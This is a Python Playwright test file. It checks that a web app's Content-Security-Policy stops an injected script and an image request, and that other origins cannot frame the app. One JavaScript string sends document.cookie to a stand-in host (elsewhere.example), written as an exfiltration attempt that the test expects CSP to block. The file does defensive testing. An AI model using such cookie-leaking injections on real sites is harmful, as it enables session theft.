"""The app under its Content-Security-Policy: what is smuggled in does not run, and no other site frames it."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from playwright.sync_api import expect

from benchmarks.live.server import running_app
from tests.browser.conftest import new_context
from tests.browser.test_every_page import WATCH

SMUGGLED = """() => new Promise(done => {
  const script = document.createElement('script');
  script.textContent = 'window.smuggled = true';
  document.head.append(script);
  const picture = new Image();
  picture.onload = () => { window.smuggled = true; };
  picture.onerror = () => done([window.smuggled ?? false, ...window.violations]);
  picture.src = 'https://elsewhere.example/?' + document.cookie;
})"""

SHOW = """(address) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.onload = done;
  frame.src = address;
  document.body.append(frame);
})"""


def test_a_script_in_the_page_and_a_picture_from_elsewhere_are_stopped(visit):
    person = visit("ko")
    person.page.evaluate(WATCH)
    smuggled, *stopped = person.page.evaluate(SMUGGLED)
    assert not smuggled
    assert [line.split()[0] for line in stopped] == ["script-src-elem", "img-src"]
    assert len(person.complaints) >= 2  # the console says so, too
    person.complaints.clear()


def test_another_site_does_not_get_the_app_into_a_frame(visit, address):
    person = visit("ko")
    other = person.context.new_page()
    other.goto(address.replace("127.0.0.1", "localhost") + "_stcore/health")  # another origin of the same server
    other.evaluate(
        SHOW,
        address,
    )
    assert other.frames[1].url == "chrome-error://chromewebdata/"
    expect(person.button("train")).to_be_visible()


class Course(BaseHTTPRequestHandler):
    """A page of another site on the same machine: browsers ask before one from outside may show anything of it."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()


KEEPS_NOTHING = """if (window.top !== window) for (const name of ['localStorage', 'sessionStorage'])
  Object.defineProperty(window, name, { get() { throw new DOMException('forbidden', 'SecurityError'); } });"""


def test_in_a_course_pages_frame_drawings_are_there_though_the_browser_keeps_nothing(chromium):
    complaints: list[str] = []
    context = new_context(chromium, first_visit=True)  # it marks no visit in a storage
    context.add_init_script(KEEPS_NOTHING)
    with ThreadingHTTPServer(("127.0.0.1", 0), Course) as course:
        Thread(target=course.serve_forever, daemon=True).start()
        site = f"http://localhost:{course.server_port}"
        with running_app(LAB_EMBED=site) as (host, _):
            page = context.new_page()
            page.on("pageerror", lambda error: complaints.append(str(error)))
            page.goto(site)
            page.evaluate(SHOW, f"http://{host}/playground?lang=en")
            expect(page.frame_locator("iframe").locator(".pg-board[data-paints]").first).to_be_visible()
            context.close()
        course.shutdown()
    assert not complaints
